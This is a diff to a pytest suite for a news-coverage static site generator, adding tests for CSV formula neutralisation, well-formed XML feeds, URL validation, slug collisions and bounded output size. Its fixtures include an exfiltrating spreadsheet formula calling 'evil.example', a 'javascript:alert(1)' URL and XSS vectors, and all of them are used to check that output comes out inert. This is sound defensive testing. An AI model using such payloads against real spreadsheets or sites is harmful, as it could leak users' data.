@@ -59,7 +59,7 @@ def test_xss_vectors_everywhere_come_out_inert(tmp_path):
     articles = {}
     for n, vector in enumerate(XSS):
         title = vector.replace('"', "'").replace("\n", " ")
-        articles[f"x{n}.md"] = (f'---\ntitle: "{title}"\nsource: "Outlet {title}"\nauthor: "{title}"\n---\n'
+        articles[f"x{n}.md"] = (f'---\ntitle: "{title}"\nsource: "Outlet {n} {title}"\nauthor: "{title}"\n---\n'
                                 f"More than 12 people said {vector} on Friday.\n\n{vector}\n")
         articles[f"t{n}.txt"] = f"{vector}\n\nAbout 40 workers said {vector} in Seoul on Monday.\n"
     root = make_project(tmp_path, articles)
@@ -189,3 +189,126 @@ def test_a_broken_file_among_many_read_in_parallel_is_reported_with_its_line(tmp
     with pytest.raises(ContentError) as exc:
         build(load_config(root, tmp_path / "site", jobs=2))
     assert [str(p).split(" ")[0] for p in exc.value.problems] == ["content/articles/a07.md:2:12:"]
+
+
+# --- Issue #17: outputs that stay valid and safe, cost bounded by input size ---
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    import csv
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    root = make_project(tmp_path, {
+        "a.md": f"---\ntitle: A\nsource: '{formula}'\n---\nMore than 300 workers were detained on Friday.\n",
+        "b.md": "---\ntitle: B\nsource: '@SUM(1+1)'\n---\nAbout 450 workers were detained on Friday.\n",
+        "c.md": "---\ntitle: C\nsource: '-2+3'\n---\nSome 300 workers were detained on Friday.\n",
+    })
+    out = tmp_path / "site"
+    build(load_config(root, out))
+    cells = [cell for f in out.rglob("*.csv") for row in csv.reader(f.open(encoding="utf-8")) for cell in row]
+    assert "'" + formula in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_feeds_and_sitemap_stay_well_formed_xml_whatever_the_characters(tmp_path):
+    from xml.etree import ElementTree
+
+    bad = "\x1b\x0b\ufffe\x7f"
+    root = make_project(tmp_path, {
+        "a.md": f'---\ntitle: "Esc{bad} title"\nsource: "Wire\\x1b\\x0b\\ufffe"\nauthor: "A\\x0c"\n---\n'
+                f"More than 300 workers{bad} were detained on Friday.\n",
+        "b.txt": f"Second{bad} headline\n\nAbout 450 workers{bad} were detained in Georgia on Friday.\n",
+    })
+    (root / "coverage-site.yaml").write_text('title: "Desk\\x1b"\ndescription: "Raw\\x0b"\nsite_url: https://example.org/\n')
+    out = tmp_path / "site"
+    build(load_config(root, out))
+    for name in ("feed.xml", "conflicts.xml", "sitemap.xml"):
+        ElementTree.parse(out / name)  # raises on a character XML forbids
+    assert "\x1b" not in (out / "articles" / "b.html").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("url", ["javascript:alert(1)", "ftp://example.org/", "example.org"])
+def test_site_url_must_be_http(tmp_path, url):
+    root = make_project(tmp_path, {"a.md": "Text.\n"})
+    (root / "coverage-site.yaml").write_text(f"site_url: '{url}'\n")
+    with pytest.raises(ContentError) as exc:
+        load_config(root)
+    assert str(exc.value).startswith("coverage-site.yaml:1:11: site_url must start with http:// or https://")
+    with pytest.raises(ContentError, match="--site-url: must start with http"):
+        load_config(make_project(tmp_path / "2", {}), site_url=url)
+
+
+def test_slug_collisions_never_overwrite_silently(tmp_path):
+    root = make_project(tmp_path, {
+        "a.md": "---\ntitle: A\nsource: A.B News\n---\nMore than 300 workers came on Friday.\n",
+        "b.md": "---\ntitle: B\nsource: A-B News\n---\nAbout 450 workers came on Friday.\n",
+        "c.md": "---\ntitle: C\nsource: Новости\n---\nSome 300 workers came on Friday.\n",
+        "d.md": "---\ntitle: D\nsource: Известия\n---\nSome 300 workers came on Friday.\n",
+    })
+    pages = root / "content" / "pages"
+    pages.mkdir()
+    (pages / "About.md").write_text("# About one\n")
+    (pages / "about.md").write_text("# About two\n")
+    out = tmp_path / "site"
+    with pytest.raises(ContentError) as exc:
+        build(load_config(root, out))
+    found = "\n".join(str(p) for p in exc.value.problems)
+    assert ("content/articles/b.md: outlet 'A-B News' and 'A.B News' (content/articles/a.md) would share the page "
+            "sources/a-b-news.html") in found
+    assert "content/pages/about.md: this page and content/pages/About.md would both be about.html" in found
+    result = build(load_config(root, out, keep_going=True))
+    assert result.articles == 3
+    sources = sorted(p.name for p in (out / "sources").iterdir())
+    assert len(sources) == 3 and "a-b-news.html" in sources  # the two non-Latin outlets keep a page each
+    assert "About one" in (out / "about.html").read_text(encoding="utf-8")
+
+
+SHAPES = ["1 ", "5% ", "“a” ", "on Friday ", "Word ", "More than 300 workers in Seoul. "]
+
+
+@pytest.mark.parametrize("unit", SHAPES)
+def test_output_is_bounded_by_the_input_for_every_hostile_shape(tmp_path, unit):
+    # Before #17 a 10 kB article of "1 " took 43 s and its site grew as claims × sentence length (26 MB for 4 kB).
+    import json
+
+    root = make_project(tmp_path, {"a.md": "---\ntitle: A\npublished: 2025-09-12\n---\n" + unit * (12_000 // len(unit))})
+    out = tmp_path / "site"
+    build(load_config(root, out))
+    size = sum(p.stat().st_size for p in out.rglob("*") if p.is_file())
+    assert size < 8 * 1024 * 1024, f"{size} bytes of site for 12 kB of text"
+    stories = json.loads((out / "data" / "coverage.json").read_text(encoding="utf-8"))["stories"]
+    claims = {c["id"]: c for s in stories for f in s["facets"] for c in f["claims"]}.values()
+    assert len(claims) <= 2000
+    assert max((len(c["sentence"]) for c in claims), default=0) <= 1000
+
+
+def test_claims_beyond_the_limits_are_left_out_with_a_warning(tmp_path, caplog):
+    from coverage_site.read.limits import MAX_PER_ARTICLE, MAX_PER_SENTENCE
+
+    root = make_project(tmp_path, {"a.txt": "Numbers\n\n" + "1 " * 400 + ".\n\n" + "2 " * 6000 + "\n"})
+    build(load_config(root, tmp_path / "site"))
+    # 400 claims in an 800-character sentence, then 6,000 in a run-on cut into 12 sentences of 1,000 characters.
+    assert MAX_PER_SENTENCE * 13 == 416
+    assert (f"content/articles/a.txt: warning: 6400 claims found; only 416 are compared (at most "
+            f"{MAX_PER_SENTENCE} per sentence and {MAX_PER_ARTICLE} per article)") in caplog.text
+
+
+def test_an_articles_own_contradictions_are_found_in_linear_time():
+    # Before #17 every pair of an article's claims of one slot was compared: 5,000 claims, 12.5 million pairs.
+    from dataclasses import replace
+
+    from coverage_site.align import findings
+    from coverage_site.claims import extract_claims
+    from coverage_site.read import parse_article
+
+    article, _ = parse_article("About 300 workers came. " * 2500 + "About 900 workers came.", "a.txt")
+    claims = [c for c in extract_claims(article) if "interval" in c.value]
+    claims = [replace(c, id=f"c{n}") for n, c in enumerate(claims)]
+    calls = []
+    original = findings.quantity_interval
+    findings.quantity_interval = lambda c: calls.append(c) or original(c)
+    try:
+        found = findings.find(article, claims, [claims])
+    finally:
+        findings.quantity_interval = original
+    assert len(claims) > 2000 and len(calls) <= 2 * len(claims)
+    assert len(found) == 1 and "About 900" in found[0].explanation
